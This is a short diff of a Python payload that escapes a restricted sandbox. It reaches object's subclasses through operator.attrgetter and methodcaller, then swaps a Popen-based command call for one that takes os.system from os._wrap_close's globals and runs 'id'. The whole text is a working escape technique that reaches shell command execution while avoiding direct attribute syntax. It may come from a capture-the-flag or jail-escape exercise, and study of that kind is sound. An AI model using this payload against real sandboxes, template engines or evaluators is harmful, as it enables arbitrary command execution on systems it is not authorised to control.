@@ -5,4 +5,5 @@ import operator
 
 obj = operator.attrgetter("__class__.__base__")(0)
 subs = operator.methodcaller("__subclasses__")(obj)
-print([c for c in subs if "Popen" in c.__name__][0](["id"]))
+wc = [c for c in subs if c.__name__ == "_wrap_close"][0]
+operator.methodcaller("__getitem__", "system")(operator.attrgetter("__init__.__globals__")(wc))("id")
